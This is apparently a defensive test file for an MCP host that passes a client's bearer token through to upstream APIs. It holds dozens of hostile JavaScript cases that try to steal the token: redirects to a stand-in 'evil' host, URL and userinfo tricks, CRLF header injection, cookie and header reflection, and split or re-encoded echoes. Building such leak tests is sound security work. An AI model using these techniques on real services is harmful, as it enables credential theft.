"""Hostile code against a pass-through credential (issue 14): the bearer the
MCP client presents is forwarded by the host to the `pt` API (the counting
upstream) and the `pth` API (httpbin, which reflects what it gets). The code
tries every way other than a plain echo to get it:

- redirects to another host, with every status (the credential must not
  follow: the evil upstream receives nothing carrying it);
- absolute URLs, other hosts, `//host` paths, userinfo and backslash tricks
  (refused, or sent under the API's base path only);
- header-name case and encoding games to overwrite or duplicate the auth
  header, `Proxy-Authorization`;
- error messages of a failing upstream (bodies, `WWW-Authenticate`, a
  `Location` outside) and its timing;
- reflection through `Set-Cookie` and response-header echoes;
- splitting what was echoed across two requests, and JS-side re-encodings
  (base64, hex, reversed, char codes, URI encoding) of reflected headers.

Each case's result must hold no form of the presented token (raw, any
16-character window, base64 at every alignment, hex, percent), the evil
upstream must receive nothing carrying it, and every request carrying it
must have gone to the API's base URL with exactly one Authorization header.

Known limit, not a case here: an upstream that itself slices the credential
(one half per answer) defeats scrubbing by whole value; such an upstream
already holds the credential, and in pass-through the one who sees the
result is the client who presented it.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import re

import pytest

from conftest import HTTP_SERVER, HTTPBIN_SPEC, LIMITS, toml_limits
from harness import PRESENTED, SLACK, Codemode, benign, benign_problems, leaks, write_spec

TOKEN = PRESENTED["PT_BEARER"]
LIMIT = 10  # seconds per execute: several httpbin round trips on a loaded machine


@dataclasses.dataclass
class Case:
    id: str
    code: str


def build_cases() -> list[Case]:
    """Every case's code is an async arrow; `%EVIL%` / `%CNT%` (host:port of
    the evil and the counting upstream) are filled in when the run starts."""
    evil, evil_host, cnt_host = "http://%EVIL%", "%EVIL%", "%CNT%"
    c = []
    # --- redirects to another host: the credential must not follow
    for code in (301, 302, 303, 307, 308):
        c.append(Case(f"redirect-{code}", f"""async () => {{
            const r = await pt.request({{path: '/redir', query: {{to: '{evil}/stolen', code: '{code}'}}}});
            return {{status: r.status, headers: r.headers, data: r.data}}; }}"""))
    c.append(Case("redirect-protocol-relative", f"""async () => {{
        const r = await pt.request({{path: '/redir', query: {{to: '//{evil_host}/stolen', code: '307'}}}});
        return [r.status, r.headers]; }}"""))
    c.append(Case("redirect-userinfo", f"""async () => {{
        const r = await pt.request({{path: '/redir', query: {{to: 'http://{cnt_host}@{evil_host}/api/x', code: '302'}}}});
        return [r.status, r.headers]; }}"""))
    c.append(Case("redirect-httpbin", f"""async () => {{
        const r = await pth.request({{path: '/redirect-to', query: {{url: '{evil}/stolen', status_code: 307}}}});
        return [r.status, r.headers, r.data]; }}"""))
    c.append(Case("redirect-then-home", f"""async () => {{
        // out to evil, which would bounce back: nothing is followed off-origin
        const r = await pt.request({{path: '/redir', query: {{to: '{evil}/redir?to=/api/items', code: '302'}}}});
        return r.status; }}"""))
    # --- absolute URLs, other hosts, path tricks
    for i, path in enumerate([
        f"{evil}/stolen",
        f"//{evil_host}/stolen",
        f"http://{cnt_host}@{evil_host}/api/items",
        f"http://x:y@{evil_host}/api/items",
        f"http://{evil_host}#@{cnt_host}/api/items",
        f"\\\\\\\\{evil_host}\\\\stolen",
        f"/\\\\{evil_host}/stolen",
        f"/..//{evil_host}/stolen",
        f"@{evil_host}/stolen",
        f"http:{evil_host}/stolen",
        "/%2e%2e/%2e%2e/outside",
        f"https://{evil_host}/stolen",
    ]):
        c.append(Case(f"url-{i}", f"""async () => {{
            try {{ const r = await pt.request({{method: 'GET', path: {json.dumps(path)}}}); return [r.status, r.data]; }}
            catch (e) {{ return 'refused: ' + e.message; }} }}"""))
    c.append(Case("url-string-form", f"""async () => {{
        try {{ return (await pt.request('GET {evil}/stolen')).status; }} catch (e) {{ return 'refused: ' + e.message; }} }}"""))
    # --- header games: overwrite, duplicate or read the auth header
    for i, headers in enumerate([
        {"authorization": "Bearer mine"},
        {"AUTHORIZATION": "Bearer mine"},
        {"Authorization ": "Bearer mine"},
        {" Authorization": "Bearer mine"},
        {"Authorization\r\nX-Injected": "1"},
        {"X-Test": "1\r\nAuthorization: Bearer mine"},
        {"Auth\u0131rization": "Bearer mine"},
        {"Proxy-Authorization": "Bearer mine"},
        {"proxy-authorization": "Basic bWluZTptaW5l"},
        {"X-Forwarded-Authorization": "x"},
        {"Cookie": "sid=mine"},
        {"Host": evil_host},
        {"X-HTTP-Method-Override": "POST"},
        {"X-Echo": "%00Authorization"},
    ]):
        # Sent to the counting upstream (which records exactly what arrives)
        # and to httpbin (which reflects it).
        c.append(Case(f"header-{i}", f"""async () => {{
            const h = {json.dumps(headers)};
            const out = [];
            for (const [api, path] of [[pt, '/items'], [pth, '/headers']]) {{
                try {{ const r = await api.request({{method: 'GET', path, headers: h}}); out.push(r.data); }}
                catch (e) {{ out.push('refused: ' + e.message); }}
            }}
            return out; }}"""))
    # --- a failing upstream: its error messages and headers
    for enc in ("401", "403", "400", "500", "location", "hdr-value", "hdr-name", "set-cookie", "text", "gzip"):
        c.append(Case(f"fail-{enc}", f"""async () => {{
            try {{ const r = await pt.request({{path: '/leak/{enc}'}}); return {{s: r.status, h: r.headers, d: r.data}}; }}
            catch (e) {{ return {{message: e.message, name: e.name, status: e.status, data: e.data, all: JSON.stringify(e)}}; }} }}"""))
    c.append(Case("fail-timing", """async () => {
        // the time a refused request takes must not depend on the secret's
        // characters (the host sends or refuses; it never compares)
        const t = [];
        for (const guess of ['Bearer a', 'Bearer c', 'Bearer z']) {
            const t0 = Date.now();
            try { await pt.request({path: '/leak/401', headers: {'X-Guess': guess}}); } catch (e) { t.push([e.message, Date.now() - t0]); }
        }
        return t.map(x => x[0]); }"""))
    # --- reflection through response headers and cookies (httpbin)
    c.append(Case("reflect-response-headers", """async () => {
        const h = await pth.request('GET /headers');
        const r = await pth.request({path: '/response-headers', query: {'Set-Cookie': 'sid=' + h.data.headers.Authorization,
                                                                        'WWW-Authenticate': h.data.headers.Authorization}});
        return [r.headers, r.data]; }"""))
    c.append(Case("reflect-cookies-set", """async () => {
        const h = await pth.request('GET /headers');
        try { const r = await pth.request({path: '/cookies/set', query: {sid: h.data.headers.Authorization}}); return [r.status, r.headers]; }
        catch (e) { return e.message; } }"""))
    c.append(Case("reflect-bearer", """async () => { const r = await pth.request('GET /bearer'); return [r.data, r.headers]; }"""))
    c.append(Case("reflect-anything-headers", """async () => {
        const r = await pth.request({path: '/anything', headers: {'X-Echo': 'x'}}); return r.data.headers; }"""))
    # --- compressed echoes: bytes the scrubber cannot read, which code could inflate
    for path in ("/gzip", "/deflate", "/brotli"):
        c.append(Case(f"compressed-{path[1:]}", f"""async () => {{
            try {{ const r = await pth.request('GET {path}'); return {{s: r.status, h: r.headers, d: r.data, b: r.data && r.data.length}}; }}
            catch (e) {{ return 'refused: ' + e.message; }} }}"""))
    c.append(Case("compressed-asked", """async () => {
        try { const r = await pth.request({path: '/headers', headers: {'Accept-Encoding': 'gzip'}}); return [r.headers, r.data]; }
        catch (e) { return 'refused: ' + e.message; } }"""))
    c.append(Case("compressed-hostile-upstream", """async () => {
        try { const r = await pt.request('GET /leak/gzip'); return {h: r.headers, d: r.data}; }
        catch (e) { return 'refused: ' + e.message; } }"""))
    # --- split across two echoes, then re-assembled or re-encoded in JS
    c.append(Case("split-two-echoes", """async () => {
        const a = (await pth.request('GET /headers')).data.headers.Authorization;
        const b = (await pth.request('GET /bearer')).data.token;
        const half = Math.floor(a.length / 2);
        return {first: a.slice(0, half), second: b.slice(half - 7), joined: a.slice(0, half) + b.slice(half - 7)}; }"""))
    c.append(Case("split-query-echo", """async () => {
        const a = (await pth.request('GET /headers')).data.headers.Authorization;
        const r1 = await pth.request({path: '/anything', query: {p: a.slice(0, 12)}});
        const r2 = await pth.request({path: '/anything', query: {p: a.slice(12)}});
        return [r1.data.args, r2.data.args]; }"""))
    c.append(Case("reencode-js", """async () => {
        const seen = JSON.stringify([(await pth.request('GET /headers')).data, (await pt.request('GET /leak/json')).data,
                                     (await pt.request('GET /leak/hdr-value')).headers]);
        const enc = new TextEncoder().encode(seen);
        return {b64: btoa(seen), hex: Array.from(enc, x => x.toString(16).padStart(2, '0')).join(''),
                reversed: seen.split('').reverse().join(''), codes: Array.from(seen, ch => ch.charCodeAt(0)).join(','),
                uri: encodeURIComponent(seen), rot: seen.replace(/[a-z]/gi, ch => String.fromCharCode(ch.charCodeAt(0) ^ 32))}; }"""))
    c.append(Case("reencode-error", """async () => {
        try { await pt.request({path: '/leak/500'}); } catch (e) {
            const s = JSON.stringify(e) + e.message + String(e.data && JSON.stringify(e.data));
            return {b64: btoa(String.fromCharCode(...new TextEncoder().encode(s))), rev: s.split('').reverse().join('')}; }
        return 'no error'; }"""))
    c.append(Case("console-and-progress", """async () => {
        const h = (await pth.request('GET /headers')).data.headers;
        console.log(h.Authorization); console.error(JSON.stringify(h));
        progress('seen ' + h.Authorization);
        return 'logged'; }"""))
    return c


def config(ctx) -> str:
    spec = write_spec(ctx.tmp)
    return HTTP_SERVER + toml_limits({**LIMITS, "max_requests": 8, "timeout_secs": LIMIT}) + f"""
[[api]]
name = "pt"
spec = "{spec}"
base_url = "{ctx.cnt.url}/api"
auth = {{ type = "passthrough" }}

[[api]]
name = "pth"
spec = "{HTTPBIN_SPEC}"
base_url = "{ctx.httpbin}"
auth = {{ type = "passthrough" }}
"""


CASES = build_cases()


def carried(hit) -> bool:
    """Whether a request an upstream received carries the presented token (any form)."""
    return any(label.startswith("PT_BEARER") for label in leaks(hit.text()))


@pytest.fixture(scope="module")
def results(ctx):
    cfg = ctx.tmp / "identity-pt.toml"
    cfg.write_text(config(ctx))
    all_cases = [Case(c.id, c.code.replace("%EVIL%", ctx.evil.host).replace("%CNT%", ctx.cnt.host)) for c in CASES]

    async def run():
        cm = Codemode("identity-pt", cfg, ctx.tmp, http=True, token=TOKEN)
        await cm.start()
        out = {}
        try:
            sem = asyncio.Semaphore(3)

            async def one(case):
                async with sem:
                    o = await cm.call("execute", case.code, LIMIT + 4)
                    out[case.id] = (o, 0)
            await asyncio.gather(*(one(c) for c in all_cases))
            out["__benign__"] = (await benign(cm, "execute"), 0)
            out["__log__"] = cm.log_text()
        finally:
            await cm.stop()
        return out

    return asyncio.run(run()), all_cases


def test_the_cases_ran(results):
    out, all_cases = results
    assert len(all_cases) >= 50
    # A pass-through request really carries the token (else the rest proves nothing).
    o, _ = out["reflect-bearer"]
    assert not o.is_error and "[REDACTED]" in o.text and '"authenticated":true' in re.sub(r"\s", "", o.text), o.text


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_case(results, case):
    out, _ = results
    o, _ = out[case.id]
    problems = []
    if o.hung or o.broken or o.rpc_error:
        problems.append(f"no tool result: {o.broken or o.rpc_error or 'hung'}")
    if o.elapsed > LIMIT + SLACK:
        problems.append(f"took {o.elapsed:.1f} s, past the {LIMIT} s limit")
    found = leaks(o.text)
    if found:
        problems.append(f"the result holds {found}: {o.text[:400]}")
    assert not problems, f"{case.id}: {problems}"


def test_nothing_carrying_the_token_left_the_base_url(results, ctx):
    stolen = [h for h in ctx.evil.hits if carried(h)]
    assert not stolen, [h.text()[:300] for h in stolen]
    sent = [h for h in ctx.cnt.hits if carried(h)]
    assert sent, "no request carried the presented token: the cases proved nothing"
    for h in sent:
        assert h.path.startswith("/api/"), f"the token went outside the base path: {h.path}"
        auths = [v for k, v in h.headers if k.lower() == "authorization"]
        assert auths == [f"Bearer {TOKEN}"], f"{h.path}: {auths}"
        extra = [k for k, _ in h.headers if k.lower() in ("proxy-authorization", "cookie", "x-injected")]
        assert not extra, h.text()[:300]


def test_refusals_say_what_and_the_server_serves_after(results):
    out, _ = results
    # The code may not set the credential headers: refused, with the reason.
    for cid in ("header-0", "header-1", "header-7", "header-8", "header-10", "header-11"):
        o, _ = out[cid]
        assert o.text.count("refused: ") == 2, (cid, o.text)
    # A compressed body is withheld, saying why.
    for cid in ("compressed-gzip", "compressed-deflate", "compressed-hostile-upstream"):
        o, _ = out[cid]
        assert "refused: " in o.text and "Content-Encoding" in o.text, (cid, o.text)
    assert not benign_problems("execute", out["__benign__"][0]), out["__benign__"][0]
    assert not [l for l in leaks(out["__log__"]) if l.startswith("PT_BEARER")], "the token is in the server log"
